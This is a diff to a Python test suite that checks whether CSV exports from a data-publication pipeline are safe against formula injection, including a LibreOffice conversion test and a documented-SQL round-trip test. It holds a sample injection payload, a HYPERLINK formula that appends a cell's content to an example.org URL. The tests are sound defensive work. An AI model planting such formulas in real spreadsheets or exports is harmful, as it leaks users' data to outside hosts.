@@ -4,7 +4,10 @@ from __future__ import annotations
 
 import csv
 import json
+import os
+import re
 import shutil
+import subprocess
 from collections.abc import Callable, Iterator
 from datetime import datetime
 from pathlib import Path
@@ -24,6 +27,7 @@ from pysdmx.io import get_datasets, read_sdmx
 from orchestration.publication.exports import look
 from orchestration.publication.exports.formula_safety import restore
 from orchestration.publication.exports.writing import write_exports
+from orchestration.settings import REPOSITORY
 
 PERSONS = "indicator_id=dibao_persons"
 FORMULA = '=HYPERLINK("http://example.org/"&A1,"点此")'
@@ -87,6 +91,35 @@ def test_no_cell_of_any_csv_runs_and_each_gives_its_original_back(published: Pub
             ["" if cell is None else cell for cell in row] for row in originals
         ], path.name
     assert n_hostile > 10, "the documents are hostile"
+
+
+def test_the_documented_select_gives_the_originals_back(published: Publisher) -> None:
+    documented = (REPOSITORY / "docs" / "exports.md").read_text(encoding="utf-8")
+    (sql,) = re.findall(r"```sql\n(.*?)```", documented, re.DOTALL)
+    table = published.file.parent / "fct_observation.csv"
+    with duckdb.connect() as connection:
+        found = connection.execute(sql.replace("fct_observation.csv", str(table))).fetchall()
+    assert sorted(found) == sorted(published.rows("select sentence from marts.fct_observation"))
+
+
+@pytest.mark.load
+@pytest.mark.skipif(not shutil.which("soffice"), reason="no LibreOffice here")
+@pytest.mark.parametrize("separator", [",", ";", "\t"])
+def test_a_spreadsheet_finds_no_formula_however_it_parts_the_cells(
+    published: Publisher, tmp_path: Path, separator: str
+) -> None:
+    options = f"CSV:{ord(separator)},34,76,1,,0,false,true,false,false,false,-1,true"
+    shutil.copy(published.file.parent / "fct_observation.csv", tmp_path / "facts.csv")
+    subprocess.run(
+        ["soffice", "--headless", "--convert-to", "xlsx", f"--infilter={options}", "facts.csv"],
+        cwd=tmp_path,
+        env={"HOME": str(tmp_path), "PATH": os.environ["PATH"]},
+        capture_output=True,
+        check=True,
+    )
+    (path,) = tmp_path.glob("*.xlsx")
+    cells = [cell for row in openpyxl.load_workbook(path).worksheets[0] for cell in row]
+    assert not [cell.value for cell in cells if cell.data_type == "f"]
 
 
 def test_numbers_stay_numbers_where_they_begin_with_a_sign(exports: Path) -> None:
@@ -210,8 +243,12 @@ def test_the_data_package_is_valid_and_its_keys_hold(published: Publisher, tmp_p
         report = validate(str(folder / "datapackage.json"))
         assert report.valid, report.flatten(["name", "type", "message"])[:5]
         cities = folder / "dim_city.csv"
-        kept = [line for line in cities.read_text().splitlines() if not line.startswith("341500,")]
-        cities.write_text("\n".join(kept) + "\n")
+        kept = [
+            line
+            for line in cities.read_text(encoding="utf-8").splitlines()
+            if not line.startswith("341500,")
+        ]
+        cities.write_text("\n".join(kept) + "\n", encoding="utf-8")
         broken = validate(str(folder / "datapackage.json"))
     assert "foreign-key" in {kind for (kind,) in broken.flatten(["type"])}
 
